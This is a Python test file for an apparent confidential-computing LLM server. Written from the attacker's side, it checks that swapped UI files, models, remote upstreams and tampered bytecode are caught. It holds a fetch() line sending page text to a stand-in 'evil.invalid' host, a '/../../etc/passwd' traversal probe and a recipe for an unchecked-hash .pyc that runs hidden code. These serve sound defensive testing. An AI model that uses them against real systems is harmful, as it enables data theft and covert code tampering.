"""The measured bytes are the bytes that run, and the configuration says where prompts go
(issue 12), written as the attacker: a UI file swapped after start, a model swapped after it
was hashed, a tampered ``.pyc``, a remote upstream, restarts within one boot."""

from __future__ import annotations

import hashlib
import os
import py_compile
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from cllm.errors import CllmError
from cllm.measure import measure_directory, measure_file
from cllm.server import ServeSettings, build_runtime, create_app
from cllm.server._scope import (
    bytecode_state,
    classify_upstream,
    host_is_loopback,
    measured_code_trees,
)
from cllm.server._startup import static_dir
from cllm.tee import SelectedBackend, SimulatedTdBackend, load_simulated_world
from serving import bytecode_env

requires_ui = pytest.mark.skipif(
    not (static_dir() / "index.html").is_file(), reason="the UI is not built (make ui)"
)


def _settings(state: Path, **overrides: object) -> ServeSettings:
    fields: dict[str, object] = {"tee": "simulated", "threads": 1, **overrides}
    return ServeSettings(state_dir=state, **fields)  # type: ignore[arg-type]


def _config(events: tuple[object, ...]) -> dict[str, object]:
    config = [e for e in events if getattr(e, "type", None) == "cllm.config"][-1]
    settings = config.details["settings"]  # type: ignore[attr-defined]
    return dict(settings)


@requires_ui
def test_a_ui_file_swapped_after_start_is_never_served(tmp_path: Path) -> None:
    ui = tmp_path / "ui"
    shutil.copytree(static_dir(), ui)
    script = next(p for p in ui.iterdir() if p.suffix == ".js")
    original = script.read_bytes()
    runtime, report = build_runtime(
        _settings(tmp_path / "state", ui_dir=ui), argv=["cllm"], clock=time.time
    )
    (ui_event,) = [e for e in report.events if e.type == "cllm.ui"]
    assert ui_event.digest == measure_directory(ui, name="ui").digest  # reference values hold
    # The attacker (anyone who can write the disk) swaps the script after measurement.
    script.write_bytes(b"fetch('https://evil.invalid/?'+document.body.innerText)")
    (ui / "index.html").write_bytes(b"<script src=/evil.js></script>")
    (ui / "evil.js").write_bytes(b"alert(1)")
    with TestClient(create_app(runtime, static_dir=ui)) as client:
        served = client.get(f"/{script.name}")
        assert served.status_code == 200
        assert served.content == original
        assert served.headers["content-type"].startswith("text/javascript")
        assert "default-src 'none'" in served.headers["content-security-policy"]
        index = client.get("/")
        assert b"evil" not in index.content and index.status_code == 200
        assert client.get("/evil.js").status_code == 404
        assert client.get("/../../etc/passwd").status_code == 404
        assert client.post(f"/{script.name}").status_code == 405
    # Every served byte is a byte that was hashed into cllm.ui.
    assert runtime.ui_snapshot is not None
    assert (
        hashlib.sha384(runtime.ui_snapshot.files[script.name]).digest()
        == hashlib.sha384(original).digest()
    )


def test_the_model_runs_from_the_sealed_copy_that_was_hashed(tmp_path: Path) -> None:
    from cllm.engine import default_model_path

    model = tmp_path / "model.gguf"
    if _same_fs(tmp_path):
        os.link(default_model_path(), model)
    else:
        shutil.copy(default_model_path(), model)
    runtime, report = build_runtime(
        _settings(tmp_path / "state", model=str(model)), argv=["cllm"], clock=time.time
    )
    (event,) = [e for e in report.events if e.type == "cllm.model"]
    assert event.digest == measure_file(model).digest  # same reference value as by path
    copy = runtime.model_file
    assert copy is not None
    # llama.cpp is given the sealed copy, never the path the attacker can swap.
    assert runtime.engine._path == copy.path  # type: ignore[attr-defined]
    model.unlink()
    model.write_bytes(b"GGUF not the measured model")
    with open(copy.path, "rb") as handle:
        assert hashlib.sha384(handle.read()).digest() == event.digest
    with pytest.raises(PermissionError):
        os.write(copy.fd, b"x")  # sealed: not even this process can change it
    with pytest.raises(PermissionError):
        os.ftruncate(copy.fd, 0)


def _same_fs(path: Path) -> bool:
    from cllm.engine import default_model_path

    return os.stat(path).st_dev == os.stat(default_model_path()).st_dev


def test_every_start_is_marked_and_counted(tmp_path: Path) -> None:
    world = load_simulated_world(tmp_path / "state", clock=time.time)

    class BootLongTd:  # RTMR3 outlives the process, as on real TDX within one boot
        name = "boot-long-td"

        def __init__(self, inner: SimulatedTdBackend) -> None:
            self._inner = inner

        def get_quote(self, report_data: bytes) -> bytes:
            return self._inner.get_quote(report_data)

        def extend_rtmr3(self, digest: bytes) -> None:
            self._inner.extend_rtmr3(digest)

        def read_ccel(self) -> tuple[bytes, bytes] | None:
            return self._inner.read_ccel()

    td = SelectedBackend(BootLongTd(SimulatedTdBackend(world)), "test", tmp_path / "state")
    settings = _settings(tmp_path / "state", event_log=tmp_path / "run" / "events.jsonl")
    build_runtime(settings, argv=["cllm"], clock=time.time, backend=td)
    second, report = build_runtime(settings, argv=["cllm"], clock=time.time, backend=td)
    markers = [e for e in second.events if e.type == "cllm.start"]
    assert [dict(m.details) for m in markers] == [{"start": 0}, {"start": 1}]
    assert report.events[0].type == "cllm.start"


def test_the_config_event_says_where_prompts_go(tmp_path: Path) -> None:
    _, report = build_runtime(_settings(tmp_path / "state"), argv=["cllm"], clock=time.time)
    settings = _config(report.events)
    assert settings["upstream_scope"] == "embedded"
    assert "upstream_host" not in settings
    assert settings["bytecode"] in ("pycache_prefix", "no_pycache", "readable")
    assert settings["allow_remote_upstream"] is False


def _openai(state: Path, upstream: str, tmp_path: Path, **overrides: object) -> ServeSettings:
    engine_file = tmp_path / "engine.bin"
    engine_file.write_bytes(b"upstream engine")
    return _settings(
        state,
        engine="openai",
        upstream=upstream,
        model="m",
        measure=(engine_file,),
        **overrides,
    )


def test_a_remote_upstream_is_refused_unless_allowed(tmp_path: Path) -> None:
    """Attack: an operator points the engine at a host off the TD (an unresolvable .invalid
    name: nothing is ever sent). Refused at start; allowed, it is recorded with the host."""
    settings = _openai(tmp_path / "state", "http://llm.invalid:8000", tmp_path)
    with pytest.raises(CllmError) as raised:
        build_runtime(settings, argv=["cllm"], clock=time.time)
    assert raised.value.code == "remote_upstream_refused"
    allowed = _openai(
        tmp_path / "state", "http://LLM.invalid.:8000/v1", tmp_path, allow_remote_upstream=True
    )
    _, report = build_runtime(allowed, argv=["cllm"], clock=time.time)
    settings_doc = _config(report.events)
    assert (settings_doc["upstream_scope"], settings_doc["upstream_host"]) == (
        "remote",
        "llm.invalid",
    )
    assert settings_doc["allow_remote_upstream"] is True


def test_upstream_classification() -> None:
    assert classify_upstream(None, engine="llama-cpp").scope == "embedded"
    for url in ("http://127.0.0.1:1", "http://[::1]:1", "http://localhost:1", "http://127.9.9.9"):
        assert classify_upstream(url, engine="openai").scope == "loopback", url
    for url in ("http://192.0.2.1", "http://example.invalid", "http://localhost.evil.invalid"):
        scope = classify_upstream(url, engine="openai")
        assert scope.scope == "remote" and scope.host, url
    # Injected classification (what the round-trip test uses): nothing is resolved here.
    remote = classify_upstream("http://127.0.0.1:9", engine="openai", is_loopback=lambda _: False)
    assert (remote.scope, remote.host) == ("remote", "127.0.0.1")
    for bad in ("ftp://127.0.0.1", "http://", "127.0.0.1:8000"):
        with pytest.raises(CllmError) as raised:
            classify_upstream(bad, engine="openai")
        assert raised.value.code == "config_invalid"
    assert host_is_loopback("::1") and not host_is_loopback("0.0.0.0")


# --- compiled bytecode -------------------------------------------------------------------------

HONEST = "def answer():\n    return 'honest'\n"
TAMPERED = "def answer():\n    return 'tampered'\n"


def _tampered_package(root: Path) -> Path:
    """A package whose source is honest and whose cached bytecode is not: an unchecked-hash
    ``.pyc`` (CPython never compares it with the source) in its ``__pycache__``."""
    package = root / "victim"
    package.mkdir()
    (package / "__init__.py").write_text(HONEST)
    evil = root / "evil.py"
    evil.write_text(TAMPERED)
    tag = sys.implementation.cache_tag
    py_compile.compile(
        str(evil),
        cfile=str(package / "__pycache__" / f"__init__.{tag}.pyc"),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
    )
    evil.unlink()
    return package


def _run_victim(root: Path, env: dict[str, str]) -> str:
    code = "import victim; print(victim.answer())"
    clean = {k: v for k, v in os.environ.items() if not k.startswith("PYTHONPYCACHE")}
    out = subprocess.run(
        [sys.executable, "-c", code],
        cwd=root,
        env={**clean, "PYTHONPATH": str(root), **env},
        capture_output=True,
        text=True,
        check=True,
    )
    return out.stdout.strip()


def test_a_tampered_pyc_runs_unless_bytecode_is_unreadable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    package = _tampered_package(tmp_path)
    # The attack works where bytecode is read from the source tree...
    assert _run_victim(tmp_path, {"PYTHONDONTWRITEBYTECODE": "1"}) == "tampered"
    monkeypatch.setattr(sys, "pycache_prefix", None)
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    state = bytecode_state([package])
    assert (state.mode, state.safe) == ("readable", False)
    assert "__pycache__" in state.reason
    # ...and not with a fresh cache prefix, which the check accepts.
    prefix = tmp_path / "fresh-prefix"
    env = {"PYTHONDONTWRITEBYTECODE": "1", "PYTHONPYCACHEPREFIX": str(prefix)}
    assert _run_victim(tmp_path, env) == "honest"
    monkeypatch.setattr(sys, "pycache_prefix", str(prefix))
    assert bytecode_state([package]).mode == "pycache_prefix"


def test_stale_bytecode_in_the_prefix_and_sourceless_bytecode(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "mod.py").write_text(HONEST)
    prefix = tmp_path / "prefix"
    mirror = prefix / str(package).lstrip(os.sep) / "__pycache__"
    mirror.mkdir(parents=True)
    stale = mirror / f"mod.{sys.implementation.cache_tag}.pyc"
    stale.write_bytes(b"planted before this process started")
    os.utime(stale, (time.time() - 3600, time.time() - 3600))
    monkeypatch.setattr(sys, "pycache_prefix", str(prefix))
    state = bytecode_state([package])
    assert state.mode == "readable" and "predates" in state.reason
    stale.unlink()
    assert bytecode_state([package]).mode == "pycache_prefix"
    (package / "other.pyc").write_bytes(b"sourceless")  # imported as `pkg.other`
    state = bytecode_state([package])
    assert state.mode == "readable" and "sourceless" in state.reason
    (package / "other.pyc").unlink()
    monkeypatch.setattr(sys, "pycache_prefix", None)
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    assert bytecode_state([package]).mode == "readable"
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    assert bytecode_state([package]).mode == "no_pycache"


def test_cllm_serve_refuses_to_start_where_bytecode_is_readable(tmp_path: Path) -> None:
    """The measured trees of this installation hold ``__pycache__`` (llama_cpp's, compiled at
    install time): without a fresh cache prefix, cllm serve must not start."""
    trees = measured_code_trees("llama-cpp")
    if not any((Path(d) / "__pycache__").is_dir() for t in trees for d, _, _ in os.walk(t)):
        pytest.skip("no __pycache__ in the measured trees here: nothing readable to refuse")
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTHONPYCACHE")}
    env["PYTHONDONTWRITEBYTECODE"] = "1"
    command = [
        sys.executable,
        "-c",
        "import sys; from cllm.cli import main; sys.exit(main())",
        "serve",
        "--tee",
        "simulated",
        "--state-dir",
        str(tmp_path / "state"),
        "--port",
        "9",
    ]
    refused = subprocess.run(command, env=env, capture_output=True, text=True, timeout=120)
    assert refused.returncode == 2
    assert "[bytecode_readable]" in refused.stdout + refused.stderr
    # The same command under a fresh prefix gets past the check (and prints its config).
    env.update(bytecode_env(tmp_path / "prefix"))
    printed = subprocess.run(
        [*command, "--print-config"], env=env, capture_output=True, text=True, timeout=120
    )
    assert printed.returncode == 0, printed.stdout + printed.stderr
    assert '"bytecode": "pycache_prefix"' in printed.stdout
    assert '"upstream_scope": "embedded"' in printed.stdout
    assert "--print-config" not in printed.stdout


def test_print_config_is_the_configuration_a_start_measures(tmp_path: Path) -> None:
    """make run signs a release of `cllm serve --print-config`: it must print exactly the
    settings the started server measures, effective GPU mode included (a mismatch made the
    quick start's own release reject its own server)."""
    import json

    import httpx

    from serving import free_port, start_serve

    state = tmp_path / "state"
    port = free_port()
    served = start_serve(
        ["--gpu-backend", "none"], state_dir=state, log_path=tmp_path / "serve.log", port=port
    )
    try:
        nonce = os.urandom(32).hex()
        evidence = httpx.get(
            f"{served.url}/v1/attestation/report", params={"nonce": nonce}, timeout=120
        ).json()
    finally:
        served.stop()
    measured = [e for e in evidence["event_log"] if e["type"] == "cllm.config"][-1]["details"]
    command = [sys.executable, "-c", "import sys; from cllm.cli import main; sys.exit(main())"]
    command += ["-vv", "serve", "--tee", "simulated", "--state-dir", str(state)]
    command += ["--port", str(port), "--threads", "1", "--gpu-backend", "none"]
    env = {**os.environ, **bytecode_env(tmp_path / "prefix")}
    printed = subprocess.run(
        [*command, "--print-config"], env=env, capture_output=True, text=True, timeout=120
    )
    assert printed.returncode == 0, printed.stdout + printed.stderr
    assert json.loads(printed.stdout)["settings"] == measured["settings"]
    assert measured["settings"]["gpu"] == "off"
